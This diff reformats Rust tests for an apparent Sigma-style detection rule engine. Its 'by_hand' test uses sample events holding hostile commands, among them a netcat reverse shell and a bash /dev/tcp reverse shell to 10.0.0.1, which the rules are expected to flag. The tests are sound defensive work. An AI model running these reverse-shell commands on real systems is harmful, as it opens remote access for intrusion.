@@ -84,7 +84,9 @@ fn values_and_modifiers() {
 #[test]
 fn conditions() {
     let of = |condition: &str| {
-        format!("sel_a:\n  A: '1'\nsel_b:\n  B: '1'\nfilter_c:\n  C: '1'\n_d:\n  D: '1'\ncondition: {condition}")
+        format!(
+            "sel_a:\n  A: '1'\nsel_b:\n  B: '1'\nfilter_c:\n  C: '1'\n_d:\n  D: '1'\ncondition: {condition}"
+        )
     };
     let case = |condition: &str, there: &str, expected: bool| {
         let names: Vec<String> = there.chars().map(|one| one.to_string()).collect();
@@ -145,7 +147,9 @@ fn yaml_as_rules_write_it() {
     is("'quoted\n  goes on'", "quoted goes on");
     assert_eq!(value("~"), Node::Null);
     let texts = |node: Node| match node {
-        Node::List(items) => items.iter().filter_map(|item| item.text().map(str::to_owned)).collect(),
+        Node::List(items) => {
+            items.iter().filter_map(|item| item.text().map(str::to_owned)).collect()
+        }
         other => vec![format!("{other:?}")],
     };
     assert_eq!(texts(value("[a, 'b, c', \"d\"]")), ["a", "b, c", "d"]);
@@ -222,9 +226,8 @@ fn each_rule_finds_its_own_event_and_not_an_innocent_one() {
     let set = RuleSet::new(shipped());
     for rule in &rules {
         let count = rule.selections.len();
-        let choices = (1u32..1 << count).map(|bits| {
-            (0..count).filter(|at| bits & (1 << at) != 0).collect::<Vec<usize>>()
-        });
+        let choices = (1u32..1 << count)
+            .map(|bits| (0..count).filter(|at| bits & (1 << at) != 0).collect::<Vec<usize>>());
         let events: Vec<Event> = choices.map(|chosen| event_of(rule, &chosen)).collect();
         let finds = |event: &&Event| set.weigh(event).iter().any(|found| found.title == rule.title);
         let positive = events.iter().find(finds);
@@ -259,16 +262,22 @@ fn by_hand() {
     check("/usr/bin/whoami", "whoami", "/usr/sbin/nginx", &["Linux Webshell Indicators"]);
     check("/usr/bin/whoami", "whoami", "/usr/bin/bash", &[]);
     check("/bin/sh", "sh -c cat x |sh", "/x", &["Linux Shell Pipe to Shell"]);
-    check("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 9", "/x", &[
-        "Potential Netcat Reverse Shell Execution",
-    ]);
-    check("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'", "/x", &[
-        "Suspicious Use of /dev/tcp",
-    ]);
+    check(
+        "/usr/bin/nc",
+        "nc -e /bin/sh 10.0.0.1 9",
+        "/x",
+        &["Potential Netcat Reverse Shell Execution"],
+    );
+    check(
+        "/usr/bin/bash",
+        "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'",
+        "/x",
+        &["Suspicious Use of /dev/tcp"],
+    );
 }
 
 #[test]
-fn no_text_makes_it_panic() {
+fn fuzz_rules() {
     let mut state = 0x9e37_79b9_7f4a_7c15u64;
     let mut next = move || {
         state ^= state << 13;
